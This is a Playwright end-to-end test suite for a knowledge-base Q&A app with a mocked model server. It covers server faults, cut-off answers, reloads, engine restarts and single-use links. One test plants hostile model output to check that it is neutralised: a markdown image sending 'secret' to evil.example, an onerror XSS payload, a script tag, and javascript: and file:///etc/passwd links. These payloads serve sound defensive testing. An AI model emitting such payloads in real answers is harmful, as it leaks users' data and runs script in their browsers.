import { execFileSync } from 'node:child_process'
import { expect, open, startApp, test } from './app'
import { ask, ended, newQuestion, openWithModel, waitForSample } from './pages'

const QUESTION = 'What does the error code PAY-104 mean?'

test('every way a model server fails ends in one plain line and a quoted answer', async ({
  page,
  app,
  mistral,
}) => {
  test.setTimeout(180_000)
  await openWithModel(page, app, mistral)
  const faults = [
    { script: { status: 401, body: '{"message":"Unauthorized"}' }, says: /key/i },
    {
      script: { status: 429, headers: { 'retry-after': '86400' }, body: '{}' },
      says: /too many|limit|wait/i,
    },
    { script: { status: 500, body: '{}' }, says: /server/i },
    {
      script: { status: 200, headers: { 'content-type': 'text/html' }, body: '<h1>Hotel Wi-Fi</h1>' },
      says: /server|model/i,
    },
  ]
  for (const { script, says } of faults) {
    mistral.script({ ...script })
    await newQuestion(page)
    const answer = await ask(page, QUESTION)
    await ended(answer)
    await expect(answer).toContainText('PAY-104')
    await expect(answer.getByText('Quoted from the knowledge base')).toBeVisible()
    await expect(answer).toContainText(says)
  }
})

test('an answer cut in its middle keeps its part, says so, and is never served again', async ({
  page,
  app,
  mistral,
}) => {
  await openWithModel(page, app, mistral)
  mistral.next({
    answer: 'PAY-104 means that the bank refused the card [1]. And then much more text.',
    cut: 'reset',
    cutAfterChunks: 4,
  })
  await newQuestion(page)
  const cut = await ask(page, QUESTION)
  await ended(cut)
  await expect(cut).toContainText('PAY-104 means')
  await expect(cut).toContainText(/cut|interrupted|connection/i)
  await newQuestion(page)
  const again = await ask(page, QUESTION)
  await ended(again)
  await expect(again.getByText(/^cached/)).toHaveCount(0)
})

test('hostile answers are text: nothing runs, nothing is fetched, nothing opens', async ({
  page,
  app,
  mistral,
}) => {
  await openWithModel(page, app, mistral)
  mistral.script({
    answer: [
      'See ![chart](https://evil.example/leak.png?q=secret) and <img src=x onerror="window.hacked=1">',
      '<script>window.hacked=1</script> [click](javascript:window.hacked=1) [file](file:///etc/passwd)',
      '![ref][r] [9] [1]',
      '',
      '[r]: https://evil.example/ref.png',
    ].join('\n'),
    chunkDelayMs: 5,
    chunkSize: 3,
  })
  await newQuestion(page)
  const answer = await ask(page, QUESTION)
  await ended(answer)
  expect(await page.evaluate(() => 'hacked' in window)).toBe(false)
  await expect(answer.locator('img, script, iframe, a[href^="javascript"], a[href^="file"]')).toHaveCount(0)
  // a citation of a passage that was not given is taken out and said
  await expect(answer.getByRole('button', { name: /^Source 9/ })).toHaveCount(0)
  await expect(answer.getByRole('button', { name: /^Source 1:/ }).first()).toBeVisible()
})

test('a reload in the middle of an answer finds it again, still being written', async ({
  page,
  app,
  mistral,
}) => {
  await openWithModel(page, app, mistral)
  mistral.script({
    answer: `First words. ${'More words follow here. '.repeat(60)}The very end.`,
    chunkDelayMs: 60,
  })
  await newQuestion(page)
  const answer = await ask(page, QUESTION)
  await expect(answer).toContainText('First words')
  await page.reload()
  const conversation = page.getByRole('button', { name: new RegExp(`^${QUESTION.slice(0, 20)}`) }).first()
  await conversation.click()
  const found = page.getByRole('article', { name: 'Answer' }).last()
  await expect(found).toContainText('First words')
  await expect(found).toContainText('The very end.', { timeout: 60_000 })
})

test('a killed engine is started again, and the page goes on by itself', async ({ page, app }) => {
  await open(page, app)
  await waitForSample(page)
  const children = execFileSync('pgrep', ['-P', String(app.pid)])
    .toString()
    .trim()
    .split('\n')
    .map(Number)
  for (const pid of children) process.kill(pid, 'SIGKILL')
  const box = page.getByRole('textbox', { name: 'Question' })
  const answer = page.getByRole('article', { name: 'Answer' })
  await box.fill(QUESTION)
  // whoever is faster than the restart reads why, and the question stays in the box
  await expect(async () => {
    if ((await answer.count()) === 0) await box.press('Enter')
    await expect(answer).toBeVisible({ timeout: 2_000 })
  }).toPass({ timeout: 30_000 })
  await ended(answer)
  await expect(answer).toContainText('PAY-104')
})

test('a link works once; without its cookie the page only says how to get a new one', async ({
  page,
  browser,
  app,
}) => {
  await open(page, app)
  expect(page.url()).not.toContain(app.link.split('#')[1] ?? 'no token')
  const stranger = await (await browser.newContext()).newPage()
  await stranger.goto(app.link)
  await expect(stranger.getByText(/used before, or is too old/).first()).toBeVisible()
  await expect(stranger.getByRole('textbox', { name: 'Question' })).toHaveCount(0)
  await stranger.context().close()
})

test('the desktop’s data folder is refused to a second program by name, and a second serve gets a new link', async ({
  app,
  dataDir,
}) => {
  const second = await startApp({ dataDir })
  expect(new URL(second.link).port).toBe(new URL(app.link).port)
  expect(second.link).not.toBe(app.link)
})
